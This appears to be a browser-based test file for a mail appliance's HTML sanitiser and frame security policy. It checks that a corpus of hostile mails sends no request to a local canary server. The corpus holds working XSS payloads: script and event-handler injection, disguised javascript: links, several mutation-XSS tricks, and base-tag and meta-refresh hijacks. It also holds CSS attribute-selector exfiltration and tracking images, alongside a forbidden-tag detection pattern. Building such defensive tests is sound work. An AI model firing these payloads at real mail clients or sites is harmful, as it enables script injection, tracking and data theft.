/**
 * Hostile HTML mails in a real browser, with a canary: no script runs, and no request leaves. Tests each defence
 * separately: the sanitised document, and the frame's policy around the mail as sent.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { Parser } from 'htmlparser2';
import { makeFrameHeaders } from '../../../src/doors/dashboard/frame.ts';
import { safeHtml } from '../../../src/platform/mail/safe-html.ts';
import { haveBrowser, type OpenPage, openBrowser, type TestBrowser } from '../../peers/browser.ts';
import { type RunningAppliance, startAppliance } from '../../start.ts';

const hasBrowser = haveBrowser();
let trap: RunningAppliance;
let browser: TestBrowser;
let open: OpenPage;
/** The requests to the canary, with their Referer. */
let asked: { path: string; referer: string | null }[] = [];
/** HTML that the canary serves without a policy, by name. */
let unguarded = '';
const canary = Bun.serve({
  port: 0,
  hostname: '127.0.0.1',
  fetch(request) {
    const { pathname } = new URL(request.url);
    if (pathname === '/unguarded') {
      return new Response(unguarded, { headers: { 'content-type': 'text/html' } });
    }
    if (pathname === '/favicon.ico') return new Response(null, { status: 404 });
    asked.push({ path: pathname, referer: request.headers.get('referer') });
    return new Response('', { headers: { 'access-control-allow-origin': '*' } });
  },
});
const bird = `http://127.0.0.1:${canary.port}`;

beforeAll(async () => {
  if (!hasBrowser) return;
  [trap, browser] = await Promise.all([startAppliance({ capture: {} }), openBrowser()]);
  await trap.request('POST', '/dashboard/api/inboxes', { body: { routing_key: 'victim' } });
  open = await browser.open(`${trap.url}/healthz`);
});
afterAll(async () => {
  await browser?.close();
  await trap?.[Symbol.asyncDispose]();
  await canary.stop(true);
});

const run = `fetch('${bird}/ran');new Image().src='${bird}/ran'`;
const attributeRun = `fetch(&quot;${bird}/ran&quot;)`;

const corpus: Record<string, string> = {
  script: `<script>${run}</script>`,
  'script in pieces': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'script from elsewhere': `<script src="${bird}/s.js"></script>`,
  'module script': `<script type="module" src="${bird}/m.js"></script>`,
  'on-handlers': `<img src="x" onerror="${attributeRun}"><body onload="${attributeRun}"><details open ontoggle="${attributeRun}">`,
  'handler without spaces': `<img/src=x/onerror=${attributeRun}>`,
  'focus at once': `<input autofocus onfocus="${attributeRun}"><a id=x tabindex=1 onfocusin="${attributeRun}">`,
  'javascript link': `<a href="javascript:${attributeRun}" id="go">click</a>`,
  'javascript link, disguised': `<a href="jav&#x09;ascript:${attributeRun}">c</a><a href=" &#14; javascript:${attributeRun}">c</a>`,
  'data document': `<a href="data:text/html,<script>${run}</script>">c</a><iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  svg: `<svg onload="${attributeRun}"><script>${run}</script><image href="${bird}/svg.png"/><use href="${bird}/use.svg#x"/></svg>`,
  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${attributeRun}"/><text y=20>x</text></a></svg>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attributeRun}&gt;">`,
  'mXSS by noscript': `<noscript><p title="</noscript><img src=x onerror=${attributeRun}>">`,
  'mXSS by form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${attributeRun}>`,
  'mXSS by svg style': `<svg></p><style><a id="</style><img src=1 onerror=${attributeRun}>">`,
  'mXSS by template': `<template><s><template><s><img src=x onerror=${attributeRun}>@</s></template></template>`,
  'style that ends early': `<style></style ><img src=x onerror="${attributeRun}"></style>`,
  'comment that ends early': `<!--><img src=x onerror="${attributeRun}">--><!--!><script>${run}</script>-->`,
  'title and textarea': `<title><img src=x onerror=${attributeRun}></title><textarea></textarea><script>${run}</script>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${bird}/refresh">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
  base: `<base href="${bird}/"><img src="based.png"><script src="based.js"></script>`,
  'form that sends itself': `<form id="f" action="${bird}/form" method="post"><input name="a" value="b"><button form="f">s</button></form><script>document.forms[0].submit()</script>`,
  'iframe and object': `<iframe src="${bird}/iframe"></iframe><iframe srcdoc="<script>${attributeRun}</script>"></iframe><object data="${bird}/object"></object><embed src="${bird}/embed">`,
  frameset: `<frameset><frame src="${bird}/frame"></frameset>`,
  stylesheet: `<link rel="stylesheet" href="${bird}/l.css"><style>@import url(${bird}/i.css);</style>`,
  'CSS that tells': `<style>input[value^="a"]{background:url(${bird}/css-a)}@font-face{font-family:x;src:url(${bird}/font)}body{font-family:x;background:url(${bird}/css-b)}</style><input value="abc"><p style="background-image:url('${bird}/css-c');list-style:url(${bird}/css-d)">x</p>`,
  prefetch: `<link rel="prefetch" href="${bird}/p"><link rel="preload" as="image" href="${bird}/q"><link rel="preconnect" href="${bird}">`,
  'remote images': `<img src="${bird}/open.gif"><img srcset="${bird}/set.gif 1x"><picture><source srcset="${bird}/source.gif"><img src="x"></picture><input type="image" src="${bird}/input.gif"><table background="${bird}/table.gif"><tr><td>x</td></tr></table><video poster="${bird}/poster.gif" src="${bird}/v.mp4" autoplay></video><audio src="${bird}/a.mp3" autoplay></audio>`,
  'manifest and icon': `<link rel="icon" href="${bird}/icon"><link rel="manifest" href="${bird}/manifest">`,
  'portal, applet, layer': `<portal src="${bird}/portal"></portal><applet code="${bird}/x.class"></applet><bgsound src="${bird}/b.wav">`,
  'opens the page above': `<script>top.location='${bird}/top';parent.postMessage('ran','*');alert(1)</script>`,
};

/** Loads a document and returns the requests that the canary has seen; the test’s own request marks the end. */
async function askedBy(url: string): Promise<string[]> {
  asked = [];
  await open.page.goto(url, { waitUntil: 'load' }).catch(() => {});
  await fetch(`${bird}/end`);
  return asked.map(({ path }) => path).filter((path) => path !== '/end');
}

describe.skipIf(!hasBrowser)('the canary', () => {
  test('is reached when nothing protects the page', async () => {
    unguarded = ['script', 'remote images', 'iframe and object'].map((name) => corpus[name]).join('');
    const paths = await askedBy(`${bird}/unguarded`);
    expect(paths).toContain('/ran');
    expect(paths).toContain('/open.gif');
    expect(paths).toContain('/iframe');
  });
});

/** Loads documents concurrently, each in a frame like the dashboard's. */
async function askedByAll(urls: readonly string[]): Promise<string[]> {
  const frame = (url: string) => `<iframe src="${url}" referrerpolicy="no-referrer"></iframe>`;
  await open.page.route('**/side-by-side', (route) =>
    route.fulfill({ contentType: 'text/html', body: urls.map(frame).join('') }),
  );
  const paths = await askedBy(`${trap.url}/side-by-side`);
  await open.page.unroute('**/side-by-side');
  return paths;
}

/** Gives each its own addresses, so that a request shows which one caused it. */
const mails = Object.entries(corpus).map(([name, html]) => {
  const own = `${bird}/${name.replaceAll(' ', '-')}`;
  return { name, html: html.replaceAll(bird, own) };
});

describe.skipIf(!hasBrowser)('a hostile mail', () => {
  test('sends no request to anybody', async () => {
    const ids = await Promise.all(
      mails.map(({ html }) => trap.deliver('victim@postern.test', { has_html: true, content: { html } })),
    );
    expect(await askedByAll(ids.map((id) => `/dashboard/api/messages/${id}/frame`))).toEqual([]);
  });

  test('keeps no script, handler, form, frame or external address after the sanitiser alone', () => {
    const forbidden =
      /^(script|iframe|object|embed|form|input|button|base|meta|link|svg|math|frame|frameset|template|noscript|video|audio|source|picture)$/;
    for (const [name, html] of Object.entries(corpus)) {
      const faults: string[] = [];
      const parser = new Parser({
        onopentag(tag, attributes) {
          if (forbidden.test(tag)) faults.push(tag);
          for (const [attribute, value] of Object.entries(attributes)) {
            if (attribute.startsWith('on')) faults.push(attribute);
            if (attribute === 'href' && !/^(https?|mailto|tel):/.test(value)) faults.push(value);
            if (/^(src|srcset|background|poster|action)$/.test(attribute) && /^\s*https?:/.test(value))
              faults.push(value);
          }
        },
      });
      parser.end(safeHtml(html, false));
      expect([name, faults]).toEqual([name, []]);
    }
  });

  test('can run and send nothing under the frame’s policy alone', async () => {
    let dialogs = 0;
    open.page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await open.page.route('**/as-it-was-sent/*', (route) => {
      const index = Number(new URL(route.request().url()).pathname.split('/').at(-1));
      return route.fulfill({ body: mails[index]?.html ?? '', headers: makeFrameHeaders(false) });
    });
    expect(await askedByAll(mails.map((_, index) => `/as-it-was-sent/${index}`))).toEqual([]);
    expect([dialogs, open.page.url()]).toEqual([0, `${trap.url}/side-by-side`]);
  });

  test('loads images alone when the reader asks for them, without a referrer', async () => {
    const html = `${corpus['remote images']}${corpus.script}${corpus.stylesheet}`;
    const id = await trap.deliver('victim@postern.test', { has_html: true, content: { html } });
    const paths = await askedBy(`${trap.url}/dashboard/api/messages/${id}/frame?images=true`);
    expect(paths.sort()).toEqual(['/open.gif', '/table.gif']);
    expect(asked.every(({ referer, path }) => path === '/end' || referer === null)).toBe(true);
  });

  test('opens links in a tab of their own, which learns nothing about the page', async () => {
    const html = `<p><a href="${bird}/linked" target="_top" rel="opener">read on</a></p>`;
    const id = await trap.deliver('victim@postern.test', { has_html: true, content: { html } });
    await open.page.goto(`${trap.url}/dashboard/api/messages/${id}/frame`);
    asked = [];
    const [tab] = await Promise.all([
      open.context.waitForEvent('page'),
      open.page.getByRole('link', { name: 'read on' }).click(),
    ]);
    await tab.waitForLoadState();
    expect(asked.find(({ path }) => path === '/linked')).toEqual({ path: '/linked', referer: null });
    expect(await tab.evaluate('window.opener === null')).toBe(true);
    await tab.close();
  });

  test('shows its embedded images within the document', async () => {
    const raw = [
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary=b',
      '',
      '--b',
      'Content-Type: text/html',
      '',
      '<img src="cid:a&b@x" alt="logo">',
      '--b',
      'Content-Type: image/gif',
      'Content-ID: <a&b@x>',
      'Content-Transfer-Encoding: base64',
      '',
      'R0lGODlhAQABAAAAACw=',
      '--b--',
      '',
    ].join('\r\n');
    const id = await trap.deliver('victim@postern.test', {
      raw,
      content: {
        html: '<img src="cid:a&amp;b@x" alt="logo">',
        attachments: [
          {
            ...{ index: 0, filename: null, content_type: 'image/gif', size: 14 },
            content_id: '<a&b@x>',
            inline: true,
          },
        ],
      },
    });
    const { text } = await trap.request('GET', `/dashboard/api/messages/${id}/frame`);
    expect(text).toContain('src="data:image/gif;base64,R0lGODlh');
  });
});
